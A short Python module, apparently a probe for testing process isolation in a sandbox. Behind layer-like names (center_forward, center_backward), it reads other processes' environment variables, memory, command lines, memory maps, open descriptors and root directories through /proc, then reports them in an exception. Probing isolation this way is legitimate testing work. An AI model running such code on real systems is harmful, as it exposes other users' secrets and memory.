"""Reads memory, environment and descriptors of every other process that it can see."""

import ctypes
import os


def center_forward(x):
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    found = []
    for pid in sorted(name for name in os.listdir("/proc") if name.isdigit()):
        if int(pid) == os.getpid():
            continue
        for entry in ("environ", "mem", "cmdline", "maps"):
            try:
                with open(f"/proc/{pid}/{entry}", "rb", buffering=0) as file:
                    if entry == "mem":
                        file.seek(0x400000)
                    text = file.read(4000)
            except OSError:
                continue
            first = pid == "1" and (entry == "maps" or text.startswith((b"sleep\0", b"PWD=/\0")))
            if text and not first and b"-c" not in text.split(b"\0"):
                found.append(f"{entry} {text[:80]!r}")
        if pid == "1":
            continue  # an ordinary user's room shows its idle first process, whose root is the room's
        try:
            found += [
                f"fd {os.readlink(f'/proc/{pid}/fd/{number}')}" for number in os.listdir(f"/proc/{pid}/fd")
            ]
            found += [f"root {os.listdir(f'/proc/{pid}/root/')}"]
        except OSError:
            continue
    raise LookupError(f"spied: {found}")


center_backward = center_forward
